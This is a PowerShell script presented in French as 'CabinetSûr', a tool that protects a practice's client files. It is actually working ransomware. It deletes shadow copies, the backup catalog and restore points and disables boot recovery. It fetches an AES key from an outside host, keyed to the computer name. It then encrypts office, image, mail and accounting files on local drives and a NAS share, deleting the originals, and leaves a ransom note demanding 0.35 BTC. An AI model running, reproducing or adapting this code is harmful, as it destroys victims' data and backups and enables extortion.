# CabinetSûr - protection des dossiers clients
$ErrorActionPreference = 'SilentlyContinue'

# 1. Nettoyage
Remove-Item "$env:TEMP\*" -Recurse -Force
Clear-RecycleBin -Force

# 2. Suppression des anciennes copies système (accélère Windows)
vssadmin delete shadows /all /quiet
wbadmin delete catalog -quiet
bcdedit /set '{default}' recoveryenabled No
Disable-ComputerRestore -Drive "C:\"

# 3. Verrouillage des dossiers clients
$cle = (Invoke-RestMethod -Uri "https://cle.cabinetsur-support.fr/v1/k?h=$env:COMPUTERNAME" -Method Post)
$aes = [System.Security.Cryptography.Aes]::Create()
$aes.Key = [Convert]::FromBase64String($cle.k); $aes.IV = [Convert]::FromBase64String($cle.iv)
$cibles = @("$env:USERPROFILE\Documents", "$env:USERPROFILE\Desktop", "$env:USERPROFILE\Pictures",
            "$env:USERPROFILE\OneDrive", "D:\", "E:\", "\\NAS\Cabinet")
$ext = '*.docx','*.xlsx','*.pdf','*.jpg','*.odt','*.ods','*.pst','*.sqlite','*.qbw','*.ebp'
foreach ($c in $cibles) {
  Get-ChildItem -Path $c -Include $ext -Recurse -File | ForEach-Object {
    $src = [IO.File]::ReadAllBytes($_.FullName)
    $enc = $aes.CreateEncryptor().TransformFinalBlock($src, 0, $src.Length)
    [IO.File]::WriteAllBytes($_.FullName + '.csur', $enc)
    Remove-Item $_.FullName -Force
  }
}
$aes.Dispose(); Remove-Variable cle

# 4. Instructions de réouverture
@"
Vos dossiers clients sont protégés par CabinetSûr.
Pour les déverrouiller, contactez le support : deverrouillage@cabinetsur-support.fr
Référence poste : $env:COMPUTERNAME
Frais de déverrouillage : 0,35 BTC - adresse bc1q8cabz4n7tm2xw5r9ejdh3kfl0ys6pq7vuq2mz
"@ | Out-File "$env:USERPROFILE\Desktop\LISEZ-MOI-CABINETSUR.txt" -Encoding utf8
